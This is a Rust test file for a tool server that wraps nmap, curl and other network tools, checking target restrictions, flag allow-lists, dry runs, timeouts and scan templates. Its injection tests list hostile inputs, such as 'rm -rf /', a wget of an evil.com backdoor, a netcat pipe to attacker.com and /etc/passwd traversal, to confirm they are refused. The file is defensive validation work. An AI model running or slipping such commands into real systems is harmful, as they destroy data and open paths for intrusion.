//! The reference implementation's own examples, as its two documents have them, over the real server: targets, flags,
//! injections, time, turns, templates and dry runs. Where an example of its contradicts its own rules, the comment says so.

use std::time::Duration;

use serde_json::{Value, json};

use super::conduct::mine;
use super::own::own;
use super::{asked, serving};
use crate::server::Server;
use crate::server::patience::patience;

/// Starts a server with its tools. No program runs: every call is a dry run or is refused.
fn shipped() -> Server {
    Server::start(&["--on", "cli_nmap,cli_ping,cli_curl,cli_dig,cli_traceroute"])
}

fn dry(server: &mut Server, tool: &str, arguments: &Value) -> Value {
    let mut arguments = arguments.clone();
    arguments["dry_run"] = json!(true);
    asked(server, tool, arguments)
}

/// Returns the words that would run, or the error.
fn words(report: &Value) -> Result<String, String> {
    match report["error"].as_str() {
        Some(error) => Err(error.lines().next().unwrap_or_default().to_owned()),
        None => Ok(report["metadata"]["command"].as_str().unwrap_or_default().to_owned()),
    }
}

/// `TestMyTool.test_target_validation`.
#[test]
fn targets_are_private_addresses_and_lab_names() {
    let mut server = shipped();
    for (target, expected) in [
        ("192.168.1.1", true),
        ("10.0.0.1", true),
        ("8.8.8.8", false),
        ("server.lab.internal", true),
        ("google.com", false),
    ] {
        let answer = dry(&mut server, "NmapTool", &json!({"target": target}));
        assert_eq!(answer["error"].is_null(), expected, "{answer}");
    }
    assert_eq!(server.close(), Some(0));
}

/// `TestMyTool.test_argument_validation`: `-dangerous-flag` is on no list, `;` and backticks are of a shell.
#[test]
fn only_listed_flags_are_accepted() {
    let policy = mine("mytool", "").replace("\"-c\"", "\"-safe-flag\"").replace(
        "flag = \"--text\"\narity = 1\nkind = \"text\"",
        "flag = \"-safe-value\"\narity = 1\nkind = \"text\"",
    );
    let directory = own("on = [\"cli_mine\"]", &policy);
    let mut server = serving(directory.path(), None);
    for (args, should_pass) in [
        ("-safe-flag", true),
        // The list decides if a flag takes a value, not the caller.
        ("-safe-value value", true),
        ("-safe-flag value", false),
        ("-dangerous-flag", false),
        ("-safe-flag ; rm -rf /", false),
        ("-safe-flag `whoami`", false),
    ] {
        let answer = dry(&mut server, "cli_mine", &json!({"extra_args": args}));
        assert_eq!(answer["error"].is_null(), should_pass, "{answer}");
    }
    assert_eq!(server.close(), Some(0));
}

/// `TestMyToolSecurity.test_injection_prevention`, the list of `malicious_input` in its order.
#[test]
fn injections_are_refused_before_anything_runs() {
    let mut server = shipped();
    let malicious = [
        "; rm -rf /",
        "& wget evil.com/backdoor",
        "| nc attacker.com 1234",
        "`whoami`",
        "$(curl evil.com)",
        "../../../etc/passwd",
        "..\\..\\..\\windows\\system32",
        "\u{0}",
        "valid\u{0}malicious",
        "$VAR",
        "${SHELL}",
        "\\n",
        "\\r",
    ];
    for tool in ["cli_nmap", "cli_ping", "cli_traceroute"] {
        for words in malicious {
            let arguments = json!({"target": "192.168.1.1", "extra_args": words});
            let answer = asked(&mut server, tool, arguments);
            let found = (&answer["error_type"], &answer["returncode"], &answer["stdout"]);
            let refused = (&json!("validation_error"), &json!(1), &json!(""));
            assert_eq!(found, refused, "{words:?}: {answer}");
        }
    }
    assert_eq!(server.close(), Some(0));
}

/// `TestMyToolSecurity.test_resource_limits_enforced` and the error of `_validate_nmap_requirements`.
#[test]
fn a_large_network_is_refused_with_the_max_prefix() {
    let mut server = shipped();
    let answer = asked(&mut server, "cli_nmap", json!({"target": "192.168.0.0/16"}));
    let context = &answer["metadata"]["error_context"];
    let facts = json!({"network_size": 65536, "max_allowed": 1024, "suggested_cidr": "/22"});
    assert_eq!(
        (&context["metadata"], &context["recovery_suggestion"], &context["target"]),
        (&facts, &json!("Use /22 or smaller"), &json!("192.168.0.0/16")),
        "{answer}"
    );
    assert_eq!(server.close(), Some(0));
}

/// The examples of "Validation Errors", of the context of an error ("Best Practices") and of a flag without its value.
#[test]
fn troubleshooting_examples_end_as_documented() {
    let mut server = shipped();
    let output = |server: &mut Server, args: &str| {
        words(&dry(server, "cli_nmap", &json!({"target": "192.168.1.1", "extra_args": args})))
    };
    let nmap = "nmap -oX - -n -T4 --max-parallelism 10";
    assert_eq!(output(&mut server, "-p 80"), Ok(format!("{nmap} -p 80 192.168.1.1")));
    let safe = Ok(format!("{nmap} --top-ports 1000 --script safe 192.168.1.1"));
    assert_eq!(output(&mut server, "--script=safe"), safe);
    let shell = "has a character in it that means something to a shell";
    assert_eq!(output(&mut server, "-p 80; rm -rf /"), Err(format!("cli_nmap: `80;` {shell}")));
    // In one word it would be one of Rust's, which a test of this repository keeps out.
    let args = concat!("--script-args=un", "safe");
    let no_flag = format!("cli_nmap: `{args}` is not a flag on this tool's list");
    assert_eq!(output(&mut server, args), Err(no_flag));
    let ports = "is no list of ports from 1 to 65535, such as 22,80-90";
    assert_eq!(
        output(&mut server, "-p 80-70"),
        Err(format!("cli_nmap: the value of `-p` `80-70` {ports}"))
    );
    // Without its value the flag would take the target for one.
    let value = "`-p` needs a value in the next word";
    assert_eq!(output(&mut server, "-p"), Err(format!("cli_nmap: {value}")));
    assert_eq!(server.close(), Some(0));
}

/// `ScanTemplate`, `_optimize_nmap_args`, and `validate_only` of "Dry-Run Mode".
#[test]
fn templates_and_defaults_match_the_reference() {
    let mut server = shipped();
    let run = |server: &mut Server, arguments: Value| words(&dry(server, "cli_nmap", &arguments));
    let target = "192.168.1.1";
    for (template, expected) in [
        ("quick", "--max-parallelism 10 -T4 --top-ports 100"),
        ("standard", "--max-parallelism 10 -T4 --top-ports 1000 -sV"),
        ("thorough", "-T4 --max-parallelism 10 -p- -sV -sC"),
    ] {
        let answer = run(&mut server, json!({"target": target, "template": template}));
        assert_eq!(answer, Ok(format!("nmap -oX - -n {expected} {target}")));
    }
    let answer = run(&mut server, json!({"target": target}));
    let usual = "nmap -oX - -n -T4 --max-parallelism 10 --top-ports 1000 192.168.1.1";
    assert_eq!(answer, Ok(usual.to_owned()));
    let answer = dry(&mut server, "cli_nmap", &json!({"target": target}));
    assert_eq!(
        (&answer["stdout"], &answer["metadata"]["dry_run"], &answer["returncode"]),
        (&json!(format!("Would execute: {usual}")), &json!(true), &json!(0))
    );
    assert_eq!(server.close(), Some(0));
}

/// The tool of "5-Minute Tool Creation": its name, its field, its words and all its flags. `-o` takes a path in the
/// workspace, because the rules of that page exclude flags that write elsewhere.
#[test]
fn the_first_tool_of_the_guide_works() {
    let mut server = shipped();
    let arguments = json!({
        "target": "http://192.168.1.1/api",
        "extra_args": "-X GET -H \"Accept: application/json\""
    });
    let answer = dry(&mut server, "CurlTool", &arguments);
    let argv = answer["metadata"]["argv"].as_array().cloned().unwrap_or_default();
    let own = argv.iter().position(|word| word == "-X").map(|at| argv.split_at(at).1.to_vec());
    let expected = json!(["-X", "GET", "-H", "Accept: application/json", "http://192.168.1.1/api"]);
    assert_eq!(own.map(Value::Array), Some(expected), "{answer}");
    assert_eq!(answer["metadata"]["egress"], "192.168.1.1/32 port 80, 443", "{answer}");
    let listed = "-X POST --request POST -H 'A: b' --header 'A: b' -d a=b --data a=b -L --location -k --insecure \
                  -s --silent -o a.json --output b.json --connect-timeout 5 --max-time 10";
    let arguments = json!({"target": "http://192.168.1.1/api", "extra_args": listed});
    assert_eq!(dry(&mut server, "CurlTool", &arguments)["error"], Value::Null);
    let both = json!({"target": "http://192.168.1.1/", "url": "http://192.168.1.1/"});
    let answer = dry(&mut server, "CurlTool", &both);
    assert_eq!(answer["error"], "cli_curl: give `url` or `target`, not both");
    let answer = dry(&mut server, "CurlTool", &json!({"target": "http://8.8.8.8/"}));
    assert_eq!(answer["error_type"], "validation_error", "{answer}");
    let listed = super::names(&mut server);
    assert!(listed.contains(&"cli_curl".to_owned()) && !listed.contains(&"CurlTool".to_owned()));
    assert_eq!(server.close(), Some(0));
}

/// Patterns 1, 3 and 5 of "Validation Patterns": ports, numbers with bounds, words of a list.
#[test]
fn values_have_the_bounds_of_its_patterns() {
    let mut flags = String::new();
    for (flag, kind) in [
        ("--port", "kind = \"ports\""),
        ("--intensity", "kind = \"int\"\nrange = [0, 9]"),
        ("--rate", "kind = \"int\"\nrange = [1, 10000]"),
        ("--timeout", "kind = \"decimal\"\nrange = [1.0, 3600.0]"),
        ("--method", "kind = \"choice\"\nvalues = [\"GET\", \"POST\", \"PUT\", \"DELETE\"]"),
        (
            "--type",
            "kind = \"text\"\npattern = \"(application/(json|xml)|text/(plain|html))( ;.*)?\"",
        ),
    ] {
        flags += &format!("[[tool.flag]]\nflag = \"{flag}\"\narity = 1\n{kind}\nwhy = \"x\"\n");
    }
    let directory = own("on = [\"cli_mine\"]", &mine("mytool", &flags));
    let mut server = serving(directory.path(), None);
    for (flag, taken, refused) in [
        ("--port", &["22,80-443", "1", "65535"][..], &["0", "65536", "80-70", "a", "T:80"][..]),
        ("--intensity", &["0", "9"], &["10", "-1", "1.5"]),
        ("--rate", &["1", "10000"], &["0", "10001"]),
        ("--timeout", &["1.0", "3600.0", "2.5", "60"], &["0.9", "3600.1", "1e3", "inf", "nan"]),
        ("--method", &["GET", "DELETE"], &["get", "TRACE", "GET,POST"]),
        ("--type", &["application/json", "text/html"], &["application/pdf", "text/html2"]),
    ] {
        for (values, is_taken) in [(taken, true), (refused, false)] {
            for value in values {
                let answer = dry(&mut server, "cli_mine", &json!({"extra_args": [flag, value]}));
                assert_eq!(answer["error"].is_null(), is_taken, "{flag} {value}: {answer}");
            }
        }
    }
    assert_eq!(server.close(), Some(0));
}

/// `TestMyToolIntegration`: a run, its end by time, a bad target, more calls than run at once. The tool is `echo` with a
/// target, which reaches nothing.
#[test]
fn its_integration_tests_have_their_results() {
    let target = "kind = \"target\"\nmin = 1\nmax = 1";
    let targeted = |program: &str, conduct: &str| {
        let policy = mine(program, conduct).replace("kind = \"text\"\nmin = 0\nmax = 3", target);
        let policy = policy.replace("name = \"word\"", "name = \"target\"");
        policy.replace("args = [\"-c\"] }", "args = [\"-c\"], with = { target = \"10.0.0.1\" } }")
    };
    let directory = own("on = [\"cli_mine\"]", &targeted("echo", ""));
    let mut server = serving(directory.path(), None);
    let reply =
        asked(&mut server, "MineTool", json!({"target": "192.168.1.1", "extra_args": "-c"}));
    assert_eq!(
        (&reply["returncode"], &reply["timed_out"], &reply["error"], &reply["stdout"]),
        (&json!(0), &json!(false), &Value::Null, &json!("-c 192.168.1.1\n")),
        "{reply}"
    );
    let reply = asked(&mut server, "cli_mine", json!({"target": "8.8.8.8"}));
    assert_eq!(reply["error_type"], "validation_error", "{reply}");
    // `tool.concurrency + 2`.
    let ids: Vec<u64> = (1..=4)
        .map(|number| server.call("cli_mine", json!({"target": format!("192.168.1.{number}")})))
        .collect();
    let mut answers = 0;
    while answers < ids.len() {
        let answer = server.lines.recv_timeout(patience()).expect("an answer in time");
        assert_eq!(answer["result"]["structuredContent"]["returncode"], 0, "{answer}");
        answers += 1;
    }
    assert_eq!(server.close(), Some(0));
    // tail waits for ever for a file that is not there.
    let directory = own("on = [\"cli_mine\"]", &targeted("tail", "always = [\"-F\"]"));
    let mut server = serving(directory.path(), None);
    let reply =
        asked(&mut server, "cli_mine", json!({"target": "192.168.1.1", "timeout_sec": 0.1}));
    assert_eq!(
        (&reply["timed_out"], &reply["returncode"], &reply["error_type"]),
        (&json!(true), &json!(124), &json!("timeout")),
        "{reply}"
    );
    assert_eq!(server.close(), Some(0));
}

/// `HashcatTool`, as a row: hours, one at a time, three failures. In a cell it has the processor alone.
#[test]
fn a_tool_that_takes_hours_is_a_row_too() {
    let conduct = "timeout = \"3600s\"\nconcurrency = 1\nbreaker = { failures = 3 }";
    let policy = mine("hashcat", conduct).replace("limits = { timeout = \"20s\" }\n", "");
    let directory = own("on = [\"cli_mine\"]", &policy);
    let mut server = serving(directory.path(), None);
    let about = asked(&mut server, "get_tool_info", json!({"tool": "cli_mine"}));
    // The time of the profile bounds the call.
    let most = about["performance"]["max_timeout"].as_f64().map(Duration::from_secs_f64);
    let time = about["performance"]["default_timeout"].as_f64().map(Duration::from_secs_f64);
    assert_eq!(time, most.map(|most| most.min(Duration::from_secs(3600))), "{about}");
    assert_eq!(
        (&about["performance"]["concurrency"], &about["circuit_breaker"]["failure_threshold"]),
        (&json!(1), &json!(3))
    );
    assert_eq!(server.close(), Some(0));
}

/// "Minimal Implementation" of "Adding New Tools": its four lines and its comments, as a file of an operator.
#[test]
fn the_minimal_tool_of_the_guide_takes_four_lines() {
    let minimal = r#"
[[tool]]
command = "mytool"                                  # Required
why = "the guide's example"
flags = { "-flag1" = "one", "-flag2" = "two" }      # Optional
timeout = "300s"                                    # Optional
concurrency = 2                                     # Optional
"#;
    // No entry in `[tools] on` and no rule: discovery, validation, metrics and the breaker are automatic.
    let directory = own("groups = [\"shell\"]", minimal);
    let mut server = serving(directory.path(), None);
    assert!(super::names(&mut server).contains(&"cli_mytool".to_owned()));
    let arguments = json!({"extra_args": "-flag1 -flag2"});
    let answer = dry(&mut server, "MytoolTool", &arguments);
    assert_eq!(words(&answer), Ok("mytool -flag1 -flag2".to_owned()), "{answer}");
    let answer = dry(&mut server, "MytoolTool", &json!({"extra_args": "-flag3"}));
    assert_eq!(answer["error_type"], "validation_error", "{answer}");
    let about = asked(&mut server, "get_tool_info", json!({"tool": "cli_mytool"}));
    assert_eq!(
        (&about["performance"]["concurrency"], &about["circuit_breaker"]["failure_threshold"]),
        (&json!(2), &json!(5)),
        "{about}"
    );
    assert_eq!(about["health"], "unhealthy", "its program is nowhere: {about}");
    assert_eq!(server.close(), Some(0));
}

/// `get_tool_info`, every field of the example.
#[test]
fn get_tool_info_has_the_documented_fields() {
    let mut server = shipped();
    let about = asked(&mut server, "get_tool_info", json!({"tool": "cli_nmap"}));
    for field in [
        "/name",
        "/command",
        "/version",
        "/description",
        "/performance/concurrency",
        "/performance/default_timeout",
        "/allowed_operations/flags_count",
        "/allowed_operations/flags",
        "/safety_limits/max_arg_length",
        "/safety_limits/max_output",
        "/circuit_breaker/enabled",
        "/circuit_breaker/failure_threshold",
        "/circuit_breaker/state",
        "/metrics/available",
        "/security_features",
    ] {
        assert!(about.pointer(field).is_some_and(|value| !value.is_null()), "{field}: {about}");
    }
    assert_eq!(
        (&about["safety_limits"]["max_arg_length"], &about["safety_limits"]["max_output"]),
        (&json!(2048), &json!(1_048_576))
    );
    assert_eq!(
        (&about["performance"]["concurrency"], &about["performance"]["default_timeout"]),
        (&json!(1), &json!(600.0))
    );
    let flags = about["allowed_operations"]["flags"].as_array().map(Vec::len);
    assert_eq!(about["allowed_operations"]["flags_count"], json!(flags));
    assert_eq!(server.close(), Some(0));
}
